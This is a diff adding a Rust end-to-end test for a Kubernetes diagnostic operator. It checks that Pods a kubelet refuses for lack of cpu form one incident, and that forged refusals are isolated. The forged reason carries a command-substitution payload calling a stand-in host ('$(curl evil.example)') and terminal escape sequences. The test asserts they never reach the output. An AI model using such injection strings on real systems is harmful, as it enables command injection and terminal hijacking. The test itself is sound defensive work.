@@ -3,7 +3,8 @@
 //! lists every workload); the two others wait for it and take its findings; every report
 //! carries the incident's name. Deployments whose Pods a node's kubelet evicts for memory
 //! pressure are one incident too, never patched; so are the Pods of a node that stops
-//! reporting, as the real node lifecycle controller marks and evicts them.
+//! reporting, as the real node lifecycle controller marks and evicts them, and the Pods a
+//! node's kubelet refuses at admission.
 
 mod support;
 
@@ -219,6 +220,176 @@ async fn pods_evicted_for_a_node_under_memory_pressure_are_one_incident() -> Res
         !shown.contains('\u{1b}') && !shown.contains('\u{7}'),
         "a control character reached the terminal"
     );
+    Ok(())
+}
+
+/// Deployments that name their node in their Pod template (`spec.nodeName`) skip the scheduler;
+/// the node has no cpu left and its kubelet (a kwok stage writing what `rejectPod` writes)
+/// refuses each Pod, and each replacement. Their reports are one incident about that node, no
+/// patch, the template's nodeName named as the cause. Two forged refusals (the status is
+/// writable by more than the kubelet) join nothing: a shutdown claimed of a Node that is Ready,
+/// and a reason no kubelet writes, carrying escapes, which is reported as the generic
+/// `Rejected` and never reaches a key, the report's reason or a terminal.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn pods_a_kubelet_refuses_are_one_incident_and_forged_refusals_join_none() -> Result<()> {
+    const PINNED: [&str; 2] = ["ledger", "search"];
+    const NODE: &str = "kwok-node-0";
+    let Some(cluster) = support::cluster_with_policy("rejected-e2e", NS, json!({})).await? else {
+        return Ok(());
+    };
+    let client = cluster.client();
+    let deployments: Api<k8s_openapi::api::apps::v1::Deployment> =
+        Api::namespaced(client.clone(), NS);
+    let hostile_reason = "OutOf$(curl evil.example)\u{1b}]52;c;cHduZWQ=\u{7}";
+    let forged: [(&str, &str, &str); 2] = [
+        (
+            "mailer",
+            "Terminated",
+            "Pod was terminated in response to imminent node shutdown.",
+        ),
+        (
+            "relay",
+            hostile_reason,
+            "Pod was rejected: \u{1b}[2J\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}",
+        ),
+    ];
+    let pinned = PINNED.iter().map(|app| (*app, None));
+    let forged_apps = forged.iter().map(|(app, r, m)| (*app, Some((*r, *m))));
+    for (app, forge) in pinned.chain(forged_apps) {
+        let mut d = demo::deployment(
+            app,
+            json!({ "app": app }),
+            Some(fault::REJECTED),
+            json!([]),
+            json!({"requests": {"cpu": "1"}}),
+        );
+        d["spec"]["template"]["spec"]["nodeName"] = NODE.into();
+        let annotations = &mut d["spec"]["template"]["metadata"]["annotations"];
+        // Each refusal makes a replacement: a refusal every 2 s keeps the pile small.
+        annotations[fault::DELAY_ANNOTATION] = "2s".into();
+        if let Some((reason, message)) = forge {
+            annotations[fault::REASON_ANNOTATION] = reason.into();
+            annotations[fault::MESSAGE_ANNOTATION] = message.into();
+        }
+        deployments
+            .create(&PostParams::default(), &serde_json::from_value(d)?)
+            .await?;
+    }
+    let setup = operator_setup(&cluster).await?;
+    let op = Operator::start(&cluster, &setup, "sre-operator-rejected-0", NS, false)?;
+    op.await_ready(Duration::from_secs(60))?;
+
+    let reports: Api<DiagnosticReport> = Api::namespaced(client.clone(), NS);
+    let done = await_one_incident(&reports, PINNED.len(), &op).await?;
+    // The forged refusals may be reported by then, each on its own.
+    let members: Vec<DiagnosticReport> = done
+        .into_iter()
+        .filter(|r| PINNED.contains(&r.spec.workload.name.as_str()))
+        .collect();
+    ensure!(members.len() == PINNED.len(), "one report per workload");
+    let incident = members[0]
+        .status
+        .as_ref()
+        .unwrap()
+        .incident
+        .clone()
+        .unwrap();
+    for r in &members {
+        let failure = &r.spec.failure;
+        ensure!(
+            failure.class == FailureClass::Evicted && failure.reason == "OutOfcpu",
+            "{failure:?}"
+        );
+        let status = r.status.as_ref().unwrap();
+        ensure!(status.incident.as_ref() == Some(&incident), "one incident");
+        ensure!(
+            status.suggested_patch.is_none(),
+            "{:?}",
+            status.suggested_patch
+        );
+    }
+    let lead = the_only_investigation(&members)?;
+    let status = lead.status.as_ref().unwrap();
+    let detail = status.incident_detail.as_ref().unwrap();
+    ensure!(
+        detail.cause.contains(NODE) && detail.cause.contains("OutOfcpu"),
+        "{}",
+        detail.cause
+    );
+    let findings = status.findings.as_ref().unwrap();
+    ensure!(
+        findings
+            .root_cause
+            .contains(&format!("spec.nodeName: {NODE}")),
+        "the pinned template is the cause: {}",
+        findings.root_cause
+    );
+
+    // The forged refusals: each reported on its own, in no incident.
+    let deadline = Instant::now() + Duration::from_secs(60);
+    let alone = loop {
+        let list = reports.list(&Default::default()).await?.items;
+        let alone: Vec<DiagnosticReport> = list
+            .into_iter()
+            .filter(|r| {
+                forged
+                    .iter()
+                    .any(|(app, _, _)| r.spec.workload.name == *app)
+            })
+            .filter(|r| r.status.as_ref().is_some_and(|s| s.findings.is_some()))
+            .collect();
+        if alone.len() == forged.len() {
+            break alone;
+        }
+        ensure!(
+            Instant::now() < deadline,
+            "the forged refusals were not reported within 60 s: {alone:#?}\n{}",
+            op.log()
+        );
+        tokio::time::sleep(Duration::from_millis(500)).await;
+    };
+    for r in &alone {
+        let status = r.status.as_ref().unwrap();
+        ensure!(
+            status.incident.is_none(),
+            "{} joined incident {:?}",
+            r.spec.workload.name,
+            status.incident
+        );
+        let expected = if r.spec.workload.name == "mailer" {
+            "NodeShutdown"
+        } else {
+            "Rejected"
+        };
+        ensure!(r.spec.failure.reason == expected, "{:?}", r.spec.failure);
+        let shown = std::process::Command::new(env!("CARGO_BIN_EXE_kubectl-sre"))
+            .args(["show", r.metadata.name.as_deref().unwrap(), "-n", NS])
+            .env("KUBECONFIG", cluster.kubeconfig())
+            .stdin(std::process::Stdio::null())
+            .output()?;
+        let text = String::from_utf8_lossy(&shown.stdout);
+        ensure!(shown.status.success(), "kubectl sre show: {text}");
+        ensure!(
+            !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains("$(curl"),
+            "the forged reason or its escapes reached the terminal:\n{text}"
+        );
+    }
+    // The operator observes: it wrote nothing to the refused Pods or their Deployments.
+    let audit = cluster.audited_requests_of(OPERATOR_USER)?;
+    let writes: Vec<String> = audit
+        .iter()
+        .filter(|e| {
+            matches!(
+                e["verb"].as_str(),
+                Some("create" | "update" | "patch" | "delete")
+            ) && matches!(
+                e["objectRef"]["resource"].as_str(),
+                Some("pods" | "deployments" | "nodes")
+            )
+        })
+        .map(|e| format!("{} {}", e["verb"], e["requestURI"]))
+        .collect();
+    ensure!(writes.is_empty(), "the operator wrote: {writes:?}");
     Ok(())
 }
 
